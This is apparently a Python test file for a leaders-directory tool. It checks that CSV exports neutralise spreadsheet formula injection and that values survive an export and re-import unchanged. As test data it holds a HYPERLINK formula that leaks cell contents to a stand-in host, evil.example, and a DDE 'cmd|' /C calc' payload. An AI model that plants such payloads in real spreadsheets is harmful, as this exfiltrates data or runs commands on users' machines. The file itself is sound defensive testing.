"""Finding 5: `leaders export` is spreadsheet-safe — a leader's self-edited role cannot run as a formula in
the staff member's spreadsheet — and `leaders import` reads that export back exactly (phone numbers that
begin with `+` included)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from adapters.console.session import ConsoleConversation
from bot.engine import Bot
from directory.csv_cells import FORMULA_STARTS, from_cell, to_cell
from directory.database import Database
from directory.people import by_email
from directory.settings import Settings
from tests.helpers import load_sample

AINE = "aine.nibhriain@belfastcity.gov.uk"
SEAN = "sean.obrien@scotland.police.uk"
FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Open profile")'


def rows_of(exported: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(exported)))


def test_a_self_edited_formula_is_exported_as_text_and_imported_back_exactly(
        db: Database, leaders, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    load_sample(db)
    bot = Bot(db, Settings(LEADERS_DATABASE_URL=db.url, _env_file=None))  # type: ignore[call-arg]
    said = ConsoleConversation(bot, AINE).say(f"me set role {FORMULA}")
    assert "Your profile is updated: role." in said
    ConsoleConversation(bot, SEAN).say("me set organisation @SUM(1+1)*cmd|' /C calc'!A0")
    ConsoleConversation(bot, SEAN).say("me set bio -2+3 is how I start; 'quoted' too")

    exported = leaders("export")
    assert exported.returncode == 0, exported.stderr
    rows = {row["email"]: row for row in rows_of(exported.stdout)}
    assert rows[AINE]["role"] == "'" + FORMULA
    assert rows[AINE]["phone"] == "'+44 7700 900101"  # a leading + is a formula to a spreadsheet too
    assert rows[SEAN]["organisation"].startswith("'@") and rows[SEAN]["bio"].startswith("'-2+3")
    for row in rows.values():  # no cell anywhere starts a formula
        assert not any(value[:1] in FORMULA_STARTS for value in row.values()), row

    path = tmp_path / "export.csv"
    path.write_text(exported.stdout, encoding="utf-8")
    imported = leaders("import", str(path))
    assert imported.returncode == 0, imported.stderr
    assert "0 new, 0 updated, 12 unchanged" in imported.stdout + imported.stderr
    with db.session(commit=False) as session:
        aine, sean = by_email(session, AINE), by_email(session, SEAN)
        assert aine is not None and sean is not None
        assert (aine.role, aine.phone) == (FORMULA, "+44 7700 900101")
        assert sean.organisation == "@SUM(1+1)*cmd|' /C calc'!A0"
        assert sean.bio == "-2+3 is how I start; 'quoted' too"
    assert leaders("export").stdout == exported.stdout  # and round again, byte for byte


def test_hand_made_files_keep_working(db: Database, leaders, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A phone typed plainly (+44 …) or marked as text ('+44 …) means the same number; a quote that
    protects nothing is kept."""
    path = tmp_path / "hand.csv"
    path.write_text("email,full_name,role,organisation,sector,phone,bio\n"
                    "a@example.gov.uk,A One,Chief Executive,Council,local government,+44 7700 900001,"
                    "'Tis the season\n"
                    "b@example.gov.uk,B Two,'=Chief Executive,Council,local government,'+44 7700 900002,\n",
                    encoding="utf-8")
    assert leaders("import", str(path)).returncode == 0
    with db.session(commit=False) as session:
        a, b = by_email(session, "a@example.gov.uk"), by_email(session, "b@example.gov.uk")
        assert a is not None and b is not None
        assert (a.phone, a.bio) == ("+44 7700 900001", "'Tis the season")
        assert (b.role, b.phone) == ("=Chief Executive", "+44 7700 900002")
    rows = {row["email"]: row for row in rows_of(leaders("export").stdout)}
    assert rows["a@example.gov.uk"]["bio"] == "''Tis the season"  # read back as 'Tis, not Tis


def test_demo_data_files_are_spreadsheet_safe_too(leaders) -> None:  # type: ignore[no-untyped-def]
    written = leaders("demo-data", "--count", "30", "-o", "-")
    assert written.returncode == 0
    rows = rows_of(written.stdout)
    assert rows and all(v[:1] not in FORMULA_STARTS for row in rows for v in row.values())
    assert any(row["phone"].startswith("'+") for row in rows)


@given(st.text())
def test_any_value_survives_the_round_trip_and_never_starts_a_formula(value: str) -> None:
    cell = to_cell(value)
    assert from_cell(cell) == value
    assert cell[:1] not in FORMULA_STARTS
